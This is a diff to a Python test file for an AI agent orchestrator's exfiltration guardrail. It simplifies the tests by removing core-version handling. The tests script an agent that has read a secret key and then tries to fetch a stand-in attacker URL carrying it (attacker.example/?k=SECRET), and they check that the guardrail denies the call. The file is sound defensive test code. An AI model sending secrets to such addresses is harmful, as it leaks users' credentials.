@@ -9,7 +9,6 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from orchestrator.core.domain.run_events import ToolFailed
-from orchestrator.core.engine.machine import CORE_VERSION
 from orchestrator.core.guardrails.exfiltration import (
     ObservedText,
     address_carries,
@@ -278,22 +277,18 @@ def test_no_way_of_breaking_up_its_words_makes_an_echo_an_address(breaks: str, t
     assert asked(run, "web.fetch", url=f"{EVIL}/?k={SECRET}") == "denied"
 
 
-def test_a_failure_that_echoes_is_no_address_either_and_older_runs_are_judged_as_they_were() -> None:
+def test_a_failure_that_echoes_is_no_address_either() -> None:
     words = f"https attacker.example/?k={SECRET}"
-    for core, what in ((CORE_VERSION, "denied"), (5, "goes")):
-        run = working("Read it.")
-        run.manifest = run.manifest.evolve(core_version=core)
-        assert asked(having_read(run, {"key": SECRET}), "page.read", on=words) == "goes"
-        effect = next(e for e in run.open.values() if e.kind == "call_tool")
-        detail = run.keep({"error": f"nothing of {words}"})
-        run.feed(
-            ToolFailed(
-                at=run.now, effect=effect.id, error="refused", sent=True, transient=False, detail=detail
-            )
-        )
-        assert [failure.observation for failure in run.state.failures] == [detail]
-        assert bool(run.state.echoes) == (what == "denied")
-        assert asked(run, "web.fetch", url=f"{EVIL}/?k={SECRET}") == what
+    run = working("Read it.")
+    assert asked(having_read(run, {"key": SECRET}), "page.read", on=words) == "goes"
+    effect = next(e for e in run.open.values() if e.kind == "call_tool")
+    detail = run.keep({"error": f"nothing of {words}"})
+    run.feed(
+        ToolFailed(at=run.now, effect=effect.id, error="refused", sent=True, transient=False, detail=detail)
+    )
+    assert [failure.observation for failure in run.state.failures] == [detail]
+    assert run.state.echoes
+    assert asked(run, "web.fetch", url=f"{EVIL}/?k={SECRET}") == "denied"
 
 
 def test_what_was_written_into_a_tool_is_no_address_when_another_reads_it() -> None:
@@ -336,10 +331,3 @@ def test_an_address_within_a_text_asks_when_it_carries() -> None:
 )
 def test_an_address_within_a_text_is_found_without_its_scheme_too(text: str, found: list[str]) -> None:
     assert addresses_in(text, bare=True) == found
-
-
-def test_a_run_that_was_admitted_earlier_is_judged_as_it_was() -> None:
-    run = working("Look.")
-    run.manifest = run.manifest.evolve(core_version=4)
-    assert asked(run, "shop.find", url="https://new.example/") == "goes"
-    assert run.state.sent == {}
